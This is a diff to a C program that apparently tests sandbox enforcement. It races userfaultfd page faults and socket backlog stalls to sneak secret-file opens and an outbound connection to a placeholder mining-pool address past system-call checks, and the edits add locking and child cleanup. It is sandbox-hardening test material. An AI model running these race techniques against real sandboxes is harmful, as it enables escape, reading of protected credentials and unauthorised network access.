@@ -14,6 +14,7 @@
 #include <linux/seccomp.h>
 #include <linux/userfaultfd.h>
 #include <pthread.h>
+#include <signal.h>
 #include <stdatomic.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -24,11 +25,13 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #define TRIES_DEFAULT 3000
 #define FAULT_TRIES   200
 #define STALL_TRIES   2
+#define WAITING       4 /* connections that fill a backlog */
 #define OUTSIDE       "203.0.113.7"
 #define MINING_PORT   3333
 
@@ -129,6 +132,7 @@ struct faults {
     int fd;
     char *page;
     _Atomic bool stop;
+    pthread_mutex_t lock; /* the page is not taken away while it is being given */
 };
 
 static void *serve_faults(void *data)
@@ -142,10 +146,13 @@ static void *serve_faults(void *data)
             continue;
         }
         struct uffdio_copy copy = { (uintptr_t)faults->page, (uintptr_t)harmless, 4096, 0, 0 };
-        ioctl(faults->fd, UFFDIO_COPY, &copy);
-        for (volatile int i = 0; i < 3000; i++) {
+        pthread_mutex_lock(&faults->lock);
+        if (ioctl(faults->fd, UFFDIO_COPY, &copy) == 0) {
+            for (volatile int i = 0; i < 3000; i++) {
+            }
+            faults->page[10] = 'w';
         }
-        faults->page[10] = 'w';
+        pthread_mutex_unlock(&faults->lock);
     }
     return NULL;
 }
@@ -170,7 +177,7 @@ static int fault_setup(struct faults *faults)
 
 static int fault_race(bool decisive)
 {
-    struct faults faults = { .fd = -1 };
+    struct faults faults = { .fd = -1, .lock = PTHREAD_MUTEX_INITIALIZER };
     pthread_t server;
     int secrets = 0;
     int status = fault_setup(&faults);
@@ -181,7 +188,9 @@ static int fault_race(bool decisive)
         return failed("pthread_create");
     }
     for (int i = 0; i < tries(FAULT_TRIES); i++) {
+        pthread_mutex_lock(&faults.lock);
         madvise(faults.page, 4096, MADV_DONTNEED);
+        pthread_mutex_unlock(&faults.lock);
         int fd = open(decisive ? faults.page : "/etc/shadox", O_RDONLY | O_CLOEXEC);
         secrets += fd >= 0 && is_secret(fd);
         close(fd);
@@ -283,17 +292,17 @@ static void *rewrite_later(void *data)
 static int stalled_once(const int listeners[2])
 {
     pthread_t other;
-    int waiting[4];
+    int waiting[WAITING];
     peer.sin_addr.s_addr = addresses[1];
     listen(listeners[1], 0);
-    for (int i = 0; i < 4; i++) {
+    for (int i = 0; i < WAITING; i++) {
         waiting[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
         connect(waiting[i], (struct sockaddr *)&peer, sizeof(peer));
     }
     pid_t server = fork();
     if (server == 0) {
         usleep(400000);
-        for (int i = 0; i < 5; i++) {
+        for (int i = 0; i <= WAITING; i++) {
             close(accept(listeners[1], NULL, NULL));
         }
         _exit(0);
@@ -301,9 +310,11 @@ static int stalled_once(const int listeners[2])
     pthread_create(&other, NULL, rewrite_later, NULL);
     int outside = connect_once();
     pthread_join(other, NULL);
-    for (int i = 0; i < 4; i++) {
+    for (int i = 0; i < WAITING; i++) {
         close(waiting[i]);
     }
+    kill(server, SIGKILL);
+    waitpid(server, NULL, 0);
     return outside == 1;
 }
 
@@ -314,7 +325,7 @@ static int connect_stalled(bool decisive)
         return 1;
     }
     for (int i = 0; decisive && i < tries(STALL_TRIES); i++) {
-        outside += stalled_once(listeners);
+        outside += stalled_once(listeners) ? 1 + WAITING : 0;
     }
     return done(outside);
 }
